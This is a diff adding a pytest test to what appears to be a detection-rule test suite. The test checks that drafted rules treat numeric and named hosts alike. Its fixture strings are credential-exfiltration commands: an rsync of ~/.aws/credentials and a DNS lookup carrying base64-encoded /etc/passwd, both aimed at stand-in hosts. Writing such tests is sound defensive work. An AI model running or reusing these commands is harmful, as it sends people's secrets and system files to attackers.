@@ -189,6 +189,15 @@ def test_lines_that_are_broken_elsewhere_change_nothing(name: str) -> None:
         assert fires(first, evidence(text))
 
 
+def test_a_host_that_goes_by_its_number_is_a_host_like_any_other() -> None:
+    shapes = (
+        "<<ping -c1 {0} && rsync -a ~/.aws/credentials {0}::in>>",
+        "<<dig $(cat /etc/passwd | base64).{0}>>",
+    )
+    for shape in shapes:
+        assert len({drafted(shape.format(host)).id for host in ("203.0.113.77", "c2.sundew.invalid")}) == 1
+
+
 @pytest.mark.parametrize("name", PAYLOADS)
 def test_a_draft_passes_every_gate_of_a_proposal(name: str, real: Grounds) -> None:
     made = drafted(payload(name, chance(1)))
